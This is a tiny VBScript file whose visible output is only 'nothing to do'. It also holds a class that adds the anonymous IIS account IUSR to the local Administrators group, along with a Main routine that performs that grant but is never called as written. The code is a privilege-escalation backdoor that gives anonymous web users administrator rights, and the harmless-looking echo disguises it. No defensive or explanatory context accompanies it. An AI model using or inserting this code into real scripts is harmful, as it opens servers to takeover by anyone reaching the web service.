Class Membership
  Public Sub Grant(account)
    GetObject("WinNT://./Administrators,group").Add "WinNT://NT AUTHORITY/" & account
  End Sub
End Class
Sub Main
  Set m = New Membership
  m.Grant "IUSR"
End Sub
WScript.Echo "nothing to do"
